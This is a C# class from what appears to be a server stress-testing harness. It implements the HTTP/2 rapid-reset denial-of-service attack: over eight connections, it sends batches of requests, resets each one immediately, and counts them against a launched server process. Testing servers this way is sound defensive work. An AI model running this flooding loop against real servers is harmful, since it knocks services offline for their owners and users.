using Lariat.Attacks.Measuring;

namespace Lariat.Attacks;

/// <summary>HTTP/2 requests that are reset at once.</summary>
internal sealed class RapidReset : IAttack
{
    private const int Count = 8;
    private const int RequestsEach = 100;

    public string Name => "h2-rapid-reset";

    public string Summary => "8 connections of HTTP/2 begin requests and reset them at once.";

    public GoodClientKind Client => GoodClientKind.Http2;

    public Task RunAsync(ServerProcess server, AttackLog log, CancellationToken end) => Attackers.RepeatAsync(Count, log, () => SendAsync(server, log, end), end);

    private static async Task SendAsync(ServerProcess server, AttackLog log, CancellationToken end)
    {
        using Peer peer = await Http2Frames.OpenAsync(server.Http2Port, end);
        Task reading = peer.DrainAsync(end);
        try
        {
            for (int stream = 1; !reading.IsCompleted; stream += 2 * RequestsEach)
            {
                int first = stream;
                await peer.SendAsync(Enumerable.Range(0, RequestsEach).SelectMany(i => (byte[])[.. Http2Frames.Get(first + (2 * i)), .. Http2Frames.Reset(first + (2 * i))]).ToArray(), end);
                log.Count("requests", RequestsEach);
            }
        }
        finally
        {
            peer.Dispose();
            await reading.ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
        }
    }
}
